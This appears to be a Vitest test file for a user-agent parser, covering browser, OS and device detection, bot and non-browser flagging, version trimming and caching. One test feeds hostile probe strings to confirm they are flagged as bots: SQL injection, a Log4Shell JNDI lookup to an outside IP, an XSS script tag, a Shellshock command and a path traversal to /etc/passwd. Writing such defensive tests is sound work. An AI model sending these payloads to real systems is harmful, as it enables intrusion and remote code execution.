import { describe, expect, it } from 'vitest';
import { parseUserAgent, shortVersion, UserAgentCache } from './user-agent';

describe('user agent parsing', () => {
  it('reads browser, OS and device type', () => {
    expect(
      parseUserAgent(
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.130 Safari/537.36 Edg/120.0.2210.91',
      ),
    ).toMatchObject({
      browser: 'Edge',
      browser_version: '120.0',
      os: 'Windows',
      os_version: '10',
      device_type: 'desktop',
      bot: false,
    });
    expect(
      parseUserAgent(
        'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1',
      ),
    ).toMatchObject({
      browser: 'Safari',
      browser_version: '17.1',
      os: 'iOS',
      os_version: '17.1',
      device_type: 'mobile',
    });
    expect(
      parseUserAgent(
        'Mozilla/5.0 (iPad; CPU OS 16_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.0 Mobile/15E148 Safari/604.1',
      ).device_type,
    ).toBe('tablet');
    expect(
      parseUserAgent(
        'Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36',
      ),
    ).toMatchObject({
      browser: 'Chrome',
      os: 'Android',
      os_version: '14',
      device_type: 'mobile',
    });
    expect(parseUserAgent('Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:121.0) Gecko/20100101 Firefox/121.0')).toMatchObject({
      browser: 'Firefox',
      browser_version: '121.0',
      os: 'macOS',
      os_version: '10.15',
      device_type: 'desktop',
    });
  });

  it('names families people know, never a parser-internal token', () => {
    const name = (ua: string) => {
      const i = parseUserAgent(ua);
      return `${i.browser} / ${i.os} / ${i.device_type}`;
    };
    expect(name('Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148')).toBe(
      'Safari WebView / iOS / mobile',
    );
    expect(name('Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0')).toBe('Firefox / Linux / desktop');
    expect(name('Mozilla/5.0 (Android 13; Tablet; rv:121.0) Gecko/121.0 Firefox/121.0')).toBe('Firefox / Android / tablet');
    expect(
      name(
        'Mozilla/5.0 (Linux; Android 13; SM-X710) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Safari/537.36',
      ),
    ).toBe('Samsung Internet / Android / tablet');
    expect(
      name(
        'Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
      ),
    ).toBe('Safari / iPadOS / tablet');
    expect(name('Mozilla/5.0 (X11; CrOS x86_64 15633.69.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36')).toBe(
      'Chrome / ChromeOS / desktop',
    );
    expect(
      name('Mozilla/5.0 (Windows NT 10.0; Win64; x64; Touch) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36'),
    ).toBe('Chrome / Windows / desktop');
    expect(
      name(
        'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/305.0.610339394 Mobile/15E148 Safari/604.1',
      ),
    ).toBe('Google App / iOS / mobile');
    expect(
      name(
        'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 LinkedInApp/9.29.7826',
      ),
    ).toBe('LinkedIn / iOS / mobile');
    expect(parseUserAgent('Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0').os_version).toBe('');
    expect(
      name(
        'Mozilla/5.0 (Linux; Android 9; Pixel 3 Build/PQ1A.181205.006; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/71.0.3578.99 Mobile Safari/537.36 GSA/8.65.5.21.arm64',
      ),
    ).toBe('Google App / Android / mobile');
    expect(
      name(
        'Mozilla/5.0 (Linux; Android 13; en-US; SM-G988U Build/TP1A.220624.014) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.80 UCMobile/15.0.7.1383 Mobile Safari/537.36',
      ),
    ).toBe('UC Browser / Android / mobile');
    expect(
      name(
        'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_3) AppleWebKit/537.36 (KHTML, like Gecko) Brave Chrome/80.0.3987.87 Safari/537.36',
      ),
    ).toBe('Brave / macOS / desktop');
    expect(
      name('Mozilla/5.0 (iPad; CPU OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari/604.1 (Brave)'),
    ).toBe('Brave / iPadOS / tablet');
    expect(
      name(
        'Mozilla/5.0 (Linux; U; en-us; KFTT Build/IML74K) AppleWebKit/535.19 (KHTML, like Gecko) Silk/2.2 Safari/535.19 Silk-Accelerated=true',
      ),
    ).toBe('Amazon Silk / Android / tablet');
    // Chrome on iPad asks for the desktop site by default: a Mac's user agent with CriOS.
    expect(
      name(
        'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/120.0.6099.119 Version/17.0 Safari/605.1.15',
      ),
    ).toBe('Chrome / iPadOS / tablet');
  });

  it('flags bots, empty and absurdly long user agents', () => {
    expect(parseUserAgent('Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)').bot).toBe(true);
    expect(parseUserAgent('').bot).toBe(true);
    expect(parseUserAgent(`Mozilla/5.0 ${'x'.repeat(2000)}`).bot).toBe(true);
    for (const probe of [
      "' OR '1'='1",
      '\u0024{jndi:ldap://203.0.113.5/a}',
      'Mozilla/5.0 <script>alert(1)</script>',
      '() { :; }; /bin/id',
      '../../etc/passwd',
    ]) {
      expect(parseUserAgent(probe).bot, probe).toBe(true);
    }
  });

  it("tells user agents that are no browser's at all", () => {
    for (const ua of [
      'curl/8.4.0',
      'Go-http-client/1.1',
      'Dart/3.2 (dart:io)',
      'Mozilla/5.0',
      'Mozilla/5.0 (compatible; Nikto/2.5.0)',
      'MyApp/1.2 CFNetwork/1490 Darwin/23.2.0',
    ]) {
      expect(parseUserAgent(ua).notBrowser, ua).toBe(true);
    }
    for (const ua of [
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
      'Mozilla/5.0 (Android 14; Mobile; rv:121.0) Gecko/121.0 Firefox/121.0',
      'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)',
    ]) {
      expect(parseUserAgent(ua).notBrowser, ua).toBe(false);
    }
  });

  it('keeps major.minor versions only', () => {
    expect(shortVersion('120.0.6099.130')).toBe('120.0');
    expect(shortVersion('17')).toBe('17');
    expect(shortVersion('10_15_7')).toBe('10.15');
    expect(shortVersion(undefined)).toBe('');
  });

  it('caches by user agent string and evicts beyond its bound', () => {
    const cache = new UserAgentCache(2);
    const a = cache.get('Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0');
    expect(cache.get('Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0')).toBe(a);
    cache.get('b-agent/1.0');
    cache.get('c-agent/1.0');
    expect(cache.get('Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0')).not.toBe(a);
  });
});
